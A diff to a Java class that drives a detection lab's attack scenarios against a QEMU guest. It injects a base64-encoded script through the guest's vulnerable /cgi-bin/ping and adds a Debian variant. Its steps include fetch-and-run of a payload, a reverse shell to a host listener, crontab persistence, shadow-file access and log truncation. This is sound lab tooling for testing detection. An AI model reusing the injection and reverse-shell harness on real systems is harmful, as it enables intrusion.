@@ -26,10 +26,11 @@ import java.util.concurrent.TimeUnit;
 import java.util.concurrent.TimeoutException;
 
 /**
- * The lab's attack scenarios (docs/detection.md, "Live scenarios") played from the host against a running demo
- * guest, as an attacker would: each step runs the scenario script ({@code lab/attack-scenarios.sh}, the one file
- * that says what each step does) through the command injection of the guest's {@code /cgi-bin/ping}, over its
- * forwarded HTTP port. The host side that the steps need listens on 127.0.0.1 only, which the guest reaches as
+ * The lab's attack scenarios (docs/detection.md, "Live scenarios") played from the host against a running guest,
+ * as an attacker would: each step runs the guest's scenario script (for the demo guest
+ * {@code lab/attack-scenarios.sh}, for the Debian guest {@code lab/attack-scenarios-debian.sh}: the one file per
+ * guest that says what each step does) through the command injection of the guest's {@code /cgi-bin/ping}, over
+ * its forwarded HTTP port. The host side that the steps need listens on 127.0.0.1 only, which the guest reaches as
  * {@value #GUEST_SEES_HOST_AS} through QEMU's user networking: an HTTP server with the payload that step
  * {@code download} fetches, and the listener that step {@code reverse-shell} connects back to (it sends {@code id}
  * and {@code exit} and keeps what comes back).
@@ -38,44 +39,60 @@ import java.util.concurrent.TimeoutException;
  */
 public final class LabAttack implements AutoCloseable {
 
-    /** The steps, in the order a whole run plays them. */
-    public static final List<String> STEPS = List.of("injection", "download", "reverse-shell", "crontab", "shadow",
-            "module", "log-truncation");
-
     /** The host's loopback as QEMU's user networking shows it to the guest. */
     public static final String GUEST_SEES_HOST_AS = "10.0.2.2";
 
     /** What step {@code download} fetches and runs: a harmless script. */
     static final String PAYLOAD = "#!/bin/sh\necho \"lab payload ran as uid $(id -u)\"\n";
 
-    private static final String SCRIPT = "lab/attack-scenarios.sh";
-    private static final Duration STEP_TIMEOUT = Duration.ofSeconds(60);
+    /** A step on the Debian guest under TCG with file events traced took up to 55 s on a loaded 2-core host. */
+    private static final Duration STEP_TIMEOUT = Duration.ofSeconds(120);
     private static final int MAX_TRANSCRIPT_BYTES = 64 * 1024;
 
     /** What one step did: when it was sent (host's {@link System#nanoTime()}), how long it took, what it printed. */
     public record StepResult(String step, long sentNanos, Duration took, String output) {
     }
 
+    /** A guest's scenario script, the shell the injection runs it with, and its steps in the order of a whole run. */
+    private record Scenarios(String script, String shell, List<String> steps) {
+
+        static Scenarios of(GuestDistro distro) {
+            return switch (distro) {
+                case BUSYBOX -> new Scenarios("lab/attack-scenarios.sh", "sh", List.of("injection", "download",
+                        "reverse-shell", "crontab", "shadow", "module", "log-truncation"));
+                case DEBIAN -> new Scenarios("lab/attack-scenarios-debian.sh", "bash", List.of("injection",
+                        "download", "reverse-shell", "crontab", "shadow", "module", "user-added", "log-truncation"));
+            };
+        }
+    }
+
+    private final Scenarios scenarios;
     private final URI vulnerable;
     private final HttpServer payloadServer;
     private final ServerSocket listener;
     private final HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(30)).build();
     private final byte[] script;
 
-    private LabAttack(int guestHttpPort, HttpServer payloadServer, ServerSocket listener) {
+    private LabAttack(Scenarios scenarios, int guestHttpPort, HttpServer payloadServer, ServerSocket listener) {
+        this.scenarios = scenarios;
         this.vulnerable = URI.create("http://127.0.0.1:" + guestHttpPort + "/cgi-bin/ping");
         this.payloadServer = payloadServer;
         this.listener = listener;
-        this.script = script();
+        this.script = script(scenarios.script());
+    }
+
+    /** The steps this lab plays, in the order a whole run plays them. */
+    public List<String> steps() {
+        return scenarios.steps();
     }
 
     /**
-     * Starts the host side (payload server and listener on free loopback ports) for the guest whose port 80 is
-     * forwarded to {@code guestHttpPort} on the host's loopback.
+     * Starts the host side (payload server and listener on free loopback ports) for a guest of {@code distro} whose
+     * port 80 is forwarded to {@code guestHttpPort} on the host's loopback.
      *
      * @throws UncheckedIOException when a loopback port cannot be opened
      */
-    public static LabAttack start(int guestHttpPort) {
+    public static LabAttack start(GuestDistro distro, int guestHttpPort) {
         InetAddress loopback = InetAddress.getLoopbackAddress();
         HttpServer server = null;
         try {
@@ -89,7 +106,7 @@ public final class LabAttack implements AutoCloseable {
             });
             server.start();
             ServerSocket listener = new ServerSocket(0, 1, loopback);
-            return new LabAttack(guestHttpPort, server, listener);
+            return new LabAttack(Scenarios.of(distro), guestHttpPort, server, listener);
         } catch (IOException e) {
             if (server != null) {
                 server.stop(0);
@@ -100,20 +117,20 @@ public final class LabAttack implements AutoCloseable {
 
     /**
      * Plays one step and returns what the guest answered (for {@code reverse-shell}: what the shell answered on the
-     * listener, within a minute).
+     * listener, within two minutes).
      *
      * @throws IllegalArgumentException for an unknown step
      * @throws IllegalStateException    when the guest's web service does not answer 200
      */
     public StepResult run(String step) {
-        if (!STEPS.contains(step)) {
-            throw new IllegalArgumentException("unknown step '" + step + "'; steps: " + String.join(", ", STEPS));
+        if (!steps().contains(step)) {
+            throw new IllegalArgumentException("unknown step '" + step + "'; steps: " + String.join(", ", steps()));
         }
         CompletableFuture<String> shell = step.equals("reverse-shell") ? acceptShell() : null;
         long sent = System.nanoTime();
         String answer = inject("echo " + Base64.getEncoder().encodeToString(script) + "|base64 -d|LAB_HOST="
                 + GUEST_SEES_HOST_AS + " LAB_HTTP_PORT=" + payloadServer.getAddress().getPort() + " LAB_SHELL_PORT="
-                + listener.getLocalPort() + " sh -s " + step);
+                + listener.getLocalPort() + " " + scenarios.shell() + " -s " + step);
         String output = shell == null ? answer : transcript(shell);
         return new StepResult(step, sent, Duration.ofNanos(System.nanoTime() - sent), output);
     }
@@ -168,10 +185,10 @@ public final class LabAttack implements AutoCloseable {
         }
     }
 
-    private static byte[] script() {
-        try (InputStream in = LabAttack.class.getResourceAsStream(SCRIPT)) {
+    private static byte[] script(String resource) {
+        try (InputStream in = LabAttack.class.getResourceAsStream(resource)) {
             if (in == null) {
-                throw new IllegalStateException("resource " + SCRIPT + " missing from the jar");
+                throw new IllegalStateException("resource " + resource + " missing from the jar");
             }
             return in.readAllBytes();
         } catch (IOException e) {
